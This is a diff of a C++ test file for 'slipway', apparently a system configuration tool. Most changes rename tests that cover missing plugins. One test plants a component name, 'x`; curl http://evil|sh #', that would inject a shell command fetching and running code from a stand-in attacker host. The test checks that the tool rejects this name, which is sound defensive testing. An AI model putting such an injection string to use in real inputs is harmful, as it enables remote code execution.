@@ -28,7 +28,7 @@ class MissingPlugin : public ::testing::Test {
   }
   void lose(const std::string& plugin) const { fs::remove(fs::path(host.plugins) / plugin); }
   /// Damage that the next boot has to repair.
-  void take_the_bystanders_file() const { fs::remove(host.path("etc/bystander")); }
+  void remove_bystander_file() const { fs::remove(host.path("etc/bystander")); }
   Ran boot() const { return host.slipway({"apply", "--boot"}); }
 
   const std::string spec = "    probe: {}\n    bystander: {}\n    guest: {}\n";
@@ -37,9 +37,9 @@ class MissingPlugin : public ::testing::Test {
 };
 
 // Earlier a boot stopped at the first line: no component of the machine was checked.
-TEST_F(MissingPlugin, FailsItsComponentAtABootAndTheOthersGoOn) {
+TEST_F(MissingPlugin, FailsItsComponentAtABootAndTheOthersContinue) {
   lose("guest.so");
-  take_the_bystanders_file();
+  remove_bystander_file();
   const Ran booted = boot();
   EXPECT_EQ(booted.code, 1) << booted.out;
   EXPECT_THAT(booted.out,
@@ -50,7 +50,7 @@ TEST_F(MissingPlugin, FailsItsComponentAtABootAndTheOthersGoOn) {
   EXPECT_TRUE(fs::exists(host.path("etc/guest"))) << "what it made stays";
 }
 
-TEST_F(MissingPlugin, IsSaidByEachCommandThatLooks) {
+TEST_F(MissingPlugin, IsReportedByEachCommandThatLooks) {
   lose("guest.so");
   for (const std::string command : {"verify", "doctor"}) {
     const Ran ran = host.slipway({command});
@@ -66,7 +66,7 @@ TEST_F(MissingPlugin, IsSaidByEachCommandThatLooks) {
 }
 
 // Only the plugin can check its own action: earlier verify and doctor ended before the first finding.
-TEST_F(MissingPlugin, WithAnActionOfItsOwnKeepsNoOtherFromBeingVerified) {
+TEST_F(MissingPlugin, WithACustomActionDoesNotStopVerify) {
   host.live = true;  // an image leaves such an action to its boot
   host.spec("    probe: {custom: works, marker: " + host.folder().at("marker").string() + "}\n    guest: {}\n");
   const Ran applied = host.slipway({"apply"});
@@ -76,12 +76,12 @@ TEST_F(MissingPlugin, WithAnActionOfItsOwnKeepsNoOtherFromBeingVerified) {
     const Ran ran = host.slipway({command});
     EXPECT_EQ(ran.code, 1) << ran.out << ran.err;
     EXPECT_THAT(ran.out, AllOf(HasSubstr("probe.plugin: no installed plugin has the component probe"),
-                               HasSubstr("probe.owned: what it has made could not be checked")));
+                               HasSubstr("probe.owned: slipway could not check what it has made")));
   }
   EXPECT_THAT(host.slipway({"verify"}).out, HasSubstr("pass  guest.owned"));
 }
 
-TEST_F(MissingPlugin, OrOneThatWasCutOffKeepsNoOtherFromBeingVerified) {
+TEST_F(MissingPlugin, InAnInterruptedApplyDoesNotStopVerify) {
   host.live = true;
   host.spec("    probe: {custom: works, marker: " + host.folder().at("marker").string() + "}\n    guest: {}\n");
   ASSERT_EQ(host.slipway({"apply"}).code, 0);
@@ -97,9 +97,9 @@ TEST_F(MissingPlugin, OrOneThatWasCutOffKeepsNoOtherFromBeingVerified) {
   EXPECT_THAT(host.slipway({"verify"}).out, HasSubstr("pass  guest.owned"));
 }
 
-TEST_F(MissingPlugin, LeavesTheOthersToAnApplyOfTheSameSpec) {
+TEST_F(MissingPlugin, DoesNotPreventAnApplyOfTheOthers) {
   lose("guest.so");
-  take_the_bystanders_file();
+  remove_bystander_file();
   const std::string file = host.folder().at("host.yaml").string();
   const Ran plan = host.slipway({"plan"});
   EXPECT_EQ(plan.code, 1);
@@ -114,7 +114,7 @@ TEST_F(MissingPlugin, LeavesTheOthersToAnApplyOfTheSameSpec) {
   EXPECT_FALSE(fs::exists(host.path("var/lib/slipway/generations/2.json")));
 }
 
-TEST_F(MissingPlugin, ThatComesBackIsAsIfItHadNeverGone) {
+TEST_F(MissingPlugin, ThatIsInstalledAgainChangesNothing) {
   const auto before = host.tree();
   const fs::path plugin = fs::path(host.plugins) / "guest.so";
   fs::rename(plugin, prefix.at("aside"));
@@ -144,12 +144,12 @@ TEST_F(MissingPlugin, ThatCannotBeReadIsNamedByItsFile) {
 }
 
 // The section for an older plugin is that component's problem too.
-TEST_F(MissingPlugin, OrOneOfAnotherVersionThatDoesNotTakeTheSection) {
+TEST_F(MissingPlugin, OfAnotherVersionMayRefuseTheSection) {
   Json generation = Json::parse(host.text("var/lib/slipway/generations/1.json"));
   generation["spec"]["spec"]["components"]["guest"]["formerly_known"] = "x";
   generation["plugins"]["guest"]["version"] = "0.0.9";
   std::ofstream(host.path("var/lib/slipway/generations/1.json")) << generation;
-  take_the_bystanders_file();
+  remove_bystander_file();
   const Ran booted = boot();
   EXPECT_EQ(booted.code, 1);
   EXPECT_THAT(booted.out, AllOf(HasSubstr("guest: failed"), HasSubstr("bystander: changed")));
@@ -158,7 +158,7 @@ TEST_F(MissingPlugin, OrOneOfAnotherVersionThatDoesNotTakeTheSection) {
 }
 
 // A component that was never applied here is still a misspelt name.
-TEST_F(MissingPlugin, IsNoExcuseForAnUnknownName) {
+TEST_F(MissingPlugin, DoesNotExcuseAnUnknownName) {
   lose("guest.so");
   host.spec(spec + "    bystandr: {}\n");
   const Ran plan = host.slipway({"plan"});
@@ -166,8 +166,8 @@ TEST_F(MissingPlugin, IsNoExcuseForAnUnknownName) {
   EXPECT_THAT(plan.err, HasSubstr("unknown component 'bystandr'; did you mean 'bystander'?"));
 }
 
-// Earlier the creator of a root could put a command into the one that root is told to type.
-TEST_F(MissingPlugin, OfWhatIsNoNameIsADamagedRecord) {
+// Earlier the creator of a root could add a command to the one that slipway advises root to run.
+TEST_F(MissingPlugin, WithAnInvalidNameIsADamagedRecord) {
   const std::string name = "x`; curl http://evil|sh #";
   Json generation = Json::parse(host.text("var/lib/slipway/generations/1.json"));
   generation["spec"]["spec"]["components"][name] = Json::object();
@@ -181,7 +181,7 @@ TEST_F(MissingPlugin, OfWhatIsNoNameIsADamagedRecord) {
 }
 
 // Removal works without its plugin, and the others' sections are kept.
-TEST_F(MissingPlugin, CanBeGivenUp) {
+TEST_F(MissingPlugin, CanBeRemoved) {
   lose("guest.so");
   const Ran removed = host.slipway({"remove", "guest", "--yes"});
   EXPECT_EQ(removed.code, 0) << removed.out << removed.err;
